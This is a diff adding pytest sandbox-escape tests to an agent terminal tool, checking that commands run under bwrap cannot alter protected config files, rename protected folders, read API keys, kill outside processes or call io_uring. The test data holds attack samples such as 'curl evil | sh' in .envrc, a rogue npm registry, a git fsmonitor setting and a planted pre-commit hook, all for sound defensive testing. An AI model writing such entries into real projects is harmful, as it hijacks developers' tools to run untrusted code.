@@ -8,7 +8,9 @@ Tests that need a working bwrap skip with the reason when it is absent; CI insta
 from __future__ import annotations
 
 import asyncio
+import platform
 import secrets
+import subprocess
 import sys
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -172,6 +174,149 @@ async def test_settings_and_git_internals_stay_read_only_inside_the_project(proj
     assert not (project / ".agent-tui" / "settings.local.json").exists()
     assert not (project / ".git" / "hooks" / "pre-commit").exists()
     assert (project / ".git" / "config").read_text() == "[core]\n"
+
+
+def git_repo(path: Path) -> None:
+    subprocess.run(["git", "init", "-q", str(path)], check=True)
+    subprocess.run(["git", "-C", str(path), "config", "user.email", "a@example.com"], check=True)
+    subprocess.run(["git", "-C", str(path), "config", "user.name", "A"], check=True)
+
+
+# Each protected path, written from inside the sandbox; run where the paths exist and where they do not.
+PROTECTED_WRITES = [
+    ("mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json", ".claude/settings.json"),
+    ("mkdir -p .claude && echo '{}' > .claude/settings.local.json", ".claude/settings.local.json"),
+    ("echo '{\"mcpServers\": {}}' > .mcp.json", ".mcp.json"),
+    ("mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"),
+    ("mkdir -p .vscode && echo '{}' > .vscode/settings.json", ".vscode/settings.json"),
+    ("mkdir -p .idea && echo x > .idea/workspace.xml", ".idea/workspace.xml"),
+    ("mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json", ".devcontainer/devcontainer.json"),
+    ("mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml", ".github/workflows/ci.yml"),
+    ("echo 'curl evil | sh' > .envrc", ".envrc"),
+    ("printf '[submodule \"x\"]\\n' > .gitmodules", ".gitmodules"),
+    ("echo 'registry=http://evil' > .npmrc", ".npmrc"),
+    ("echo 'repos: []' > .pre-commit-config.yaml", ".pre-commit-config.yaml"),
+    ("echo '--pre=evil' > .ripgreprc", ".ripgreprc"),
+    ("echo '[core] fsmonitor = evil' >> .git/config", ".git/config"),
+    ("printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit", ".git/hooks/pre-commit"),
+    ("echo '[core] fsmonitor = evil' > .git/config.worktree", ".git/config.worktree"),
+    ("echo /tmp/elsewhere > .git/commondir", ".git/commondir"),
+    ("mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes", ".git/info/attributes"),
+    ("mkdir -p .agent-tui && echo '{}' > .agent-tui/settings.local.json", ".agent-tui/settings.local.json"),
+]
+
+
+@requires_bwrap
+@pytest.mark.parametrize("existing", [True, False], ids=["existing", "missing"])
+async def test_no_protected_path_can_be_written_from_the_sandbox(project, existing):
+    git_repo(project)
+    before = {}
+    if existing:
+        for _, relative in PROTECTED_WRITES:
+            path = project / relative
+            if not path.exists():
+                path.parent.mkdir(parents=True, exist_ok=True)
+                path.write_text("original\n")
+    for _, relative in PROTECTED_WRITES:
+        path = project / relative
+        before[relative] = path.read_text() if path.is_file() else None
+    for command, relative in PROTECTED_WRITES:
+        result = await run(command, project)
+        path = project / relative
+        after = path.read_text() if path.is_file() else None
+        assert after == before[relative], (command, result.content)
+        assert result.is_error, (command, result.content)
+    # nothing is left behind by the placeholders: the project looks as before
+    listing = sorted(p.name for p in project.iterdir())
+    expected = sorted({".git", ".agent-tui", *(r.split("/")[0] for r in before if before[r] is not None)})
+    assert listing == expected
+
+
+@requires_bwrap
+async def test_protected_folders_cannot_be_renamed_or_replaced(project):
+    git_repo(project)
+    (project / ".claude").mkdir()
+    (project / ".github" / "workflows").mkdir(parents=True)
+    (project / ".vscode").mkdir()
+    for command in (
+        "mv .git .git-orig && mkdir .git && cp -a .git-orig/. .git/ && echo '[core]' > .git/config",
+        "mv .claude .claude-orig && mkdir .claude && echo '{}' > .claude/settings.json",
+        "mv .github .gh && mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
+        "rm -rf .vscode; mkdir .vscode && echo '{}' > .vscode/tasks.json",
+        "mv .git/hooks .git/hooks-orig && mkdir .git/hooks && echo x > .git/hooks/pre-commit",
+        "ln -sfn /tmp .claude",
+    ):
+        result = await run(command, project)
+        assert result.is_error, command
+    assert sorted(p.name for p in project.iterdir()) == [".agent-tui", ".claude", ".git", ".github", ".vscode"]
+    assert not (project / ".claude" / "settings.json").exists()
+    assert not (project / ".git" / "hooks" / "pre-commit").exists()
+    assert "[core]\n" != (project / ".git" / "config").read_text()
+
+
+@requires_bwrap
+async def test_git_add_and_commit_work_inside_the_sandbox(project):
+    git_repo(project)
+    result = await run(
+        "echo one > a.txt && git add a.txt && git commit -qm first && git checkout -qb topic && "
+        "echo two >> a.txt && git commit -qam second && git log --format=%s", project
+    )
+    assert not result.is_error, result.content
+    assert result.content.splitlines() == ["second", "first"]
+    assert subprocess.run(["git", "-C", str(project), "status", "--porcelain"], capture_output=True,
+                          text=True).stdout == ""
+
+
+@requires_bwrap
+async def test_agent_tuis_own_folders_stay_read_only_whatever_allow_write_says(project, tmp_path, monkeypatch):
+    cache = tmp_path / "home-cache"
+    cache.mkdir()
+    monkeypatch.setenv("AGENT_TUI_CACHE_DIR", str(cache / "agent-tui"))
+    config = SandboxConfig(allow_write=(str(cache),))
+    result = await run(f"echo poison > {cache}/agent-tui/css.json; echo ok > {cache}/other", project, config)
+    assert "Read-only file system" in result.content
+    assert not (cache / "agent-tui" / "css.json").exists()
+    assert (cache / "other").read_text() == "ok\n"
+
+
+@requires_bwrap
+async def test_api_keys_are_not_in_a_sandboxed_commands_environment(project, monkeypatch):
+    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-secret")
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai-secret")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret")
+    monkeypatch.setenv("MY_SERVICE_TOKEN", "tok-secret")
+    monkeypatch.setenv("PLAIN_SETTING", "visible")
+    result = await run("env", project)
+    assert "secret" not in result.content and "PLAIN_SETTING=visible" in result.content
+    passed = await run("echo $OPENAI_API_KEY", project, SandboxConfig(pass_env=("OPENAI_API_KEY",)))
+    assert passed.content == "sk-openai-secret"
+
+
+@requires_bwrap
+async def test_the_sandbox_has_its_own_pid_namespace(project):
+    outside = subprocess.Popen(["sleep", "300"])
+    try:
+        result = await run(f"kill -9 {outside.pid}; pgrep -x sleep | xargs -r kill -9; ps -e | wc -l", project)
+        assert outside.poll() is None, result.content
+        assert int(result.content.split()[-1]) < 10
+    finally:
+        outside.kill()
+        outside.wait()
+
+
+@requires_bwrap
+@pytest.mark.skipif(platform.machine() not in ("x86_64", "aarch64"), reason="no seccomp table for this machine")
+async def test_io_uring_is_refused_in_the_sandbox(project):
+    probe = (
+        f"{sys.executable} -c \"import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
+        "params = ctypes.create_string_buffer(120); r = libc.syscall(425, 4, params); "
+        "print(r, os.strerror(ctypes.get_errno()))\""
+    )
+    unsandboxed = await run(probe, project, dangerouslyDisableSandbox=True)
+    if unsandboxed.content.startswith("-1 Function not implemented"):
+        pytest.skip("this kernel has no io_uring, so the filter cannot be told apart from it")
+    result = await run(probe, project)
+    assert result.content.startswith("-1 Function not implemented"), result.content
 
 
 @requires_bwrap
